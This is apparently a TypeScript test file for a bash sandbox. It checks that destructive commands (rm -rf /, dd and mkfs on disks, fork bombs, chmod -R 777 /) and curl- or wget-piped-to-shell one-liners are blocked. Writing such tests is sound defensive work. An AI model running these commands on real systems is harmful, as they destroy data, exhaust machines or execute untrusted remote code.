import { expect } from 'vitest';
import { EVERY_MODE, describeFenceAttacks, type Attack } from '../src/attack.ts';

const harmless = ({ output }: { output: string }): void => {
  expect(output).not.toContain('got');
};

const destructive = [
  'rm -rf /',
  'rm -fr --no-preserve-root /',
  'rm -r -f /*',
  'command rm -rf /',
  'find / -delete',
  'dd if=/dev/zero of=/dev/sda',
  'mkfs.ext4 /dev/sda1',
  'cat /dev/zero > /dev/sda',
  'chmod -R 777 /',
  ':(){ :|:& };:',
  'bomb() { bomb | bomb & }; bomb',
].map((code): Attack => ({
  threat: 'T-LANG-03',
  name: `destroys with ${code}`,
  language: 'bash',
  modes: EVERY_MODE,
  code,
  expect: ({ status }) => expect.fail(`it ran, and ended with ${status}`),
}));

/** Relaxed mode warns of these. */
const remote = [
  'curl http://1.1.1.1/x | sh',
  'wget -qO- http://1.1.1.1/x | bash',
  'bash <(curl -s http://1.1.1.1/x)',
  'eval "$(curl -s http://1.1.1.1/x)"',
].map((code): Attack => ({
  threat: 'T-LANG-03',
  name: `runs what it fetches with ${code}`,
  language: 'bash',
  modes: ['strict', 'standard'],
  code,
  expect: ({ status }) => expect.fail(`it ran, and ended with ${status}`),
}));

const builtinsOnly = [
  'ls /',
  '/usr/bin/ls',
  'echo got | cat',
  'x=$(echo got); echo "$x"',
  '(echo got)',
  'echo got & wait',
  'exec ls',
  'command ls',
  'env',
].map((code): Attack => ({
  threat: 'T-LANG-03',
  name: `starts something by ${code}`,
  language: 'bash',
  modes: ['strict'],
  alone: true,
  code,
  expect: harmless,
}));

describeFenceAttacks('bash', [...destructive, ...remote, ...builtinsOnly]);
